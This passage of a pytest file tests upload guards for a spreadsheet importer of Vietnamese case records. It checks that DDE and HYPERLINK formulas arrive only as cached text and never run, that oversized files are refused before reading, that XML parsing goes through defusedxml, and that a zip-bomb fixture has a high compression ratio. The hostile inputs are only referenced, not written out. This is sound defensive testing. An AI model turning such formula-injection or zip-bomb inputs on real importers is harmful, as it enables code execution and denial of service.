    assert len({c.id for c in CASES}) == len(CASES)


def test_formulas_arrive_as_cached_values_or_text_never_run(con, tmp_path):
    marker = tmp_path / "executed"
    plan = prepare(formula_cells(str(marker)), "congthuc.xlsx", con)
    assert plan.ok, plan.error_text()
    names = dict(zip(plan.records["case_code"], plan.records["procedure_name"], strict=True))
    assert names["HS-001"] == "Đăng ký khai sinh"  # the DDE formula's cached value, as text
    assert names["HS-002"] == "Bấm vào đây"  # HYPERLINK's cached value; no link followed
    assert names["HS-003"] in (None, "") or str(names["HS-003"]) in ("nan", "None")  # no cached value: nothing
    assert all(isinstance(v, str) for v in plan.records["procedure_name"].dropna())
    assert not marker.exists()
    # the same text typed as a string stays that string
    plan = prepare(formula_cells(""), "vanban.xlsx", con)
    assert plan.ok, plan.error_text()
    assert list(plan.records["procedure_name"]) == [DDE]
    before = counts(con)
    result = commit(con, plan, "test")
    assert result.status == "loaded"
    stored = con.execute(
        "SELECT procedure_name, typeof(procedure_name) FROM cases WHERE case_code = 'HS-004'"
    ).fetchall()
    assert stored == [(DDE, "VARCHAR")]
    assert counts(con)["cases"] == before["cases"] + 1
    assert not marker.exists()


def test_file_over_the_limit_is_refused_before_it_is_read(con, tmp_path, monkeypatch):
    monkeypatch.setattr(guards, "current_limits", lambda: Limits(max_upload_mb=1))
    path = tmp_path / "lon.xlsx"
    path.write_bytes(b"\0" * ((1 << 20) + 1))
    read = []
    monkeypatch.setattr(Path, "read_bytes", lambda self: read.append(self) or b"")
    before = counts(con)
    plan, result = ingest_file(con, path, user="test")
    assert not read
    assert plan.error.startswith("Tệp «lon.xlsx» có dung lượng 1 MB, vượt giới hạn 1 MB")
    assert result.status == "rejected" and counts(con) == before


def test_openpyxl_parses_through_defusedxml():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML


def test_normal_files_pass_the_guards_unchanged(con):
    for data, name in ((C.case_list(), "a.xlsx"), (C.messy_case_list(), "m.xlsx"), (C.HTML_CASES.encode(), "h.xls")):
        plan = prepare(data, name, con)
        assert plan.ok, plan.error_text()
        assert not [w for w in plan.warnings if "ký tự" in w]


def test_zlib_bomb_ratio_is_what_the_case_claims():
    data = zip_bomb_ratio()
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/media/image1.bin")
    assert info.file_size // info.compress_size > 1000 and len(data) < 64_000
    assert zlib  # used by the members above through zipfile
